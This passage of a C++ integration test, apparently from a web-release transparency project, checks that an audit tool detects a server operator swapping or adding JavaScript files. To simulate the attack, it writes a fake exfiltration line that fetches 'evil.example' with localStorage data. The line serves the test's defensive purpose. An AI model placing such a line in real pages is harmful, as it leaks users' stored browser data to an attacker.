  auto release = service_->LatestWebRelease();
  ASSERT_TRUE(release.ok());
  EXPECT_NE(release->manifest.find("  /assets/app-1.js\n"), std::string::npos);
  EXPECT_NE(honest.second.find(crypto::ToHex(domain::WebReleaseId(release->manifest))),
            std::string::npos);

  // The operator swaps the script (the server reads files at each request).
  std::ofstream(web / "assets" / "app-1.js")
      << "fetch('https://evil.example/?k=' + localStorage.key);";
  auto swapped = RunShell(audit);
  EXPECT_EQ(swapped.first, 1) << swapped.second;
  EXPECT_NE(swapped.second.find("/assets/app-1.js is not the file of the logged web release"),
            std::string::npos)
      << swapped.second;
  // Or serves a page that loads a script the release does not hold.
  std::ofstream(web / "assets" / "app-1.js") << "console.log('honest');";
  std::ofstream(web / "index.html") << "<!doctype html><script src=\"/assets/extra.js\"></script>";
  auto extra = RunShell(audit);
  EXPECT_EQ(extra.first, 1) << extra.second;
  EXPECT_NE(extra.second.find("is not the file of the logged web release"), std::string::npos)
      << extra.second;
  // A restart with new files logs a new release, which then passes.
  Stop();
  Start();
  auto relogged = RunShell(audit);
  EXPECT_EQ(relogged.first, 1) << relogged.second;  // index.html names a file that is not there
  EXPECT_NE(relogged.second.find("/assets/extra.js, which the logged release does not hold"),
            std::string::npos)
      << relogged.second;
}

INSTANTIATE_TEST_SUITE_P(Engines, HostileServerTest, ::testing::Values("sqlite", "postgres"),
                         [](const auto& p) { return p.param; });

}  // namespace
}  // namespace candor::it
